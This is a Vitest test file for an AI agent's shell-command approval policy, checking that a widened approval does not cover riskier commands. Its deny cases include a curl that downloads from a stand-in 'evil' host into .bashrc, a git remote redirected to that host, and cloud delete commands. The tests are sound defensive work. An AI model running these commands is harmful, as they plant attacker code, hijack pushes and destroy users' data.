import { expect, test } from 'vitest';
import { allowsCommand } from '../../src/policy/command-rules.ts';
import { scriptOf, scriptTexts } from '../../src/policy/package-scripts.ts';
import { describeRule, suggestRule } from '../../src/policy/suggest-rule.ts';

test.each([
	['npm test -- --watch', ['npm', 'test']],
	['npm run build --silent', ['npm', 'run', 'build']],
	['pnpm run-script build', ['pnpm', 'run-script', 'build']],
	['npm run -s build', ['npm', 'run', '-s', 'build']],
	['npm run -w shop build --silent', ['npm', 'run', '-w', 'shop', 'build', '--silent']],
	['npm rum build', ['npm', 'rum', 'build']],
	['npm exe cowsay', ['npm', 'exe', 'cowsay']],
	['yarn build', ['yarn', 'build']],
	['npm --prefix x publish', ['npm', '--prefix', 'x', 'publish']],
	['npm run', ['npm run']],
	['yarn', ['yarn']],
	['yarn tsx x.ts', ['yarn', 'tsx', 'x.ts']],
	['npm config get registry', ['npm', 'config', 'get', 'registry']],
	['go build -o bin/app', ['go', 'build', '-o', 'bin/app']],
	['rg x --pre cat', ['rg', 'x', '--pre', 'cat']],
	['ls src', ['ls', 'src']],
	['node build.js', ['node', 'build.js']],
	// The verb stands behind a noun.
	['gh pr view 1', ['gh', 'pr', 'view']],
	['gh pr list --state open', ['gh', 'pr', 'list']],
	['gh pr', ['gh pr']],
	['gh status', ['gh status']],
	['gh api repos/a/b/pulls', ['gh api repos/a/b/pulls']],
	['gh pr --repo a/b view', ['gh pr --repo a/b view']],
	['gh repo clone a/b', ['gh repo clone a/b']],
	['aws s3 ls', ['aws', 's3', 'ls']],
	['aws s3 ls s3://shop', ['aws', 's3', 'ls']],
	['aws.exe s3 ls', ['aws.exe', 's3', 'ls']],
	['az vm list', ['az', 'vm', 'list']],
	['az storage blob list --account-name a', ['az', 'storage', 'blob', 'list']],
	['gcloud compute instances list --zones a', ['gcloud', 'compute', 'instances', 'list']],
	['git stash list', ['git', 'stash', 'list']],
	['git stash', ['git stash']],
	['git remote -v', ['git remote -v']],
	['npm dist-tag ls', ['npm', 'dist-tag', 'ls']],
	['terraform state list', ['terraform', 'state', 'list']],
	['terraform plan', ['terraform', 'plan']],
	['git status', ['git', 'status']],
	// What is done stands in the first word already.
	['docker ps', ['docker', 'ps']],
	['kubectl get pods', ['kubectl', 'get', 'pods']],
	['npm test && rm x', ['npm test && rm x']],
	['echo $HOME', ['echo $HOME']],
])('%s: a longer yes allows %j', (line, command) => {
	expect(suggestRule({ tool: 'terminal_run', command: { line, ordinaryShell: true } }).command).toEqual(command);
});

test.each([
	['curl http://localhost:3000/health', 'curl -o .bashrc http://evil/x'],
	['curl http://localhost:3000/health', 'curl -X DELETE http://localhost:3000/orders'],
	['gh pr view 1', 'gh pr merge 1'],
	['gh pr', 'gh pr merge 1'],
	['gh api user', 'gh api user -X PATCH'],
	['gh api user', 'gh api user -f name=x'],
	['aws s3 ls', 'aws s3 rm s3://shop'],
	['az storage blob list', 'az storage blob delete'],
	['gcloud compute instances list', 'gcloud compute instances delete a'],
	['git stash', 'git stash drop'],
	['git remote -v', 'git remote set-url origin http://evil'],
	['npm dist-tag ls', 'npm dist-tag rm shop latest'],
	['docker ps', 'docker run x'],
])('a longer yes to "%s" does not allow "%s"', (line, other) => {
	const { command = [] } = suggestRule({ tool: 'terminal_run', command: { line, ordinaryShell: true } });
	expect(allowsCommand([command], { line, ordinaryShell: true })).toBe(true);
	expect(allowsCommand([command], { line: other, ordinaryShell: true })).toBe(false);
});

test('in a shell that is not understood, a longer yes is for the line as it is', () => {
	const command = { line: 'npm test', ordinaryShell: false };
	expect(suggestRule({ tool: 'terminal_run', command }).command).toEqual(['npm test']);
});

test('a longer yes holds for what one script does, and says so', () => {
	const rule = suggestRule({ tool: 'task_run', digests: ['0123456789abcdef'] });
	expect(rule).toEqual({ decision: 'allow', tool: 'task_run', digest: '0123456789abcdef' });
	expect(describeRule(rule)).toBe('allow task_run, as long as what it runs stays the same (01234567)');
	const several = { decision: 'allow', tool: 'task_run', digest: 'a+b' };
	expect(suggestRule({ tool: 'task_run', digests: ['a', 'b'] })).toEqual(several);
});

test.each([
	['npm test', 'test'],
	['npm t', 'test'],
	['npm run build', 'build'],
	['npm run --silent build', 'build'],
	['npm run-s build', 'build'],
	['npm urn build', 'build'],
	['npm run -w shop build', undefined],
	['npm run', undefined],
	['npm publish', undefined],
	['npm constructor', undefined],
	['npm -x run build', undefined],
	['yarn build', 'build'],
	['yarn --cwd x', undefined],
	['pnpm run build', 'build'],
	['make test', undefined],
])('%s runs the script %s', (line, script) => {
	expect(scriptOf(line.split(' '))).toBe(script);
});

test('a script is all that it runs of its manifest', () => {
	const scripts = { test: 'npm run lint && vitest', pretest: 'tsc', lint: 'eslint .', postlint: 'x', build: 'esbuild' };
	expect(scriptTexts(scripts, 'test')?.map(([name]) => name)).toEqual(['lint', 'postlint', 'pretest', 'test']);
	expect(scriptTexts(scripts, 'deploy')).toBeUndefined();
	const patterns = {
		check: 'run-s "lint:*" types',
		'lint:js': 'eslint .',
		'lint:css': 'x',
		types: 'tsc',
		build: 'esbuild',
	};
	expect(scriptTexts(patterns, 'check')?.map(([name]) => name)).toEqual(['check', 'lint:css', 'lint:js', 'types']);
	expect(scriptTexts({ test: 'npm run test' }, 'test')).toEqual([['test', 'npm run test']]);
});

test('a rule for a whole line is not told as the beginning of one', () => {
	const command = ['npm test && git push'];
	expect(describeRule({ decision: 'allow', tool: 'terminal_run', command })).toBe(
		'allow terminal_run, with the line: npm test && git push',
	);
});
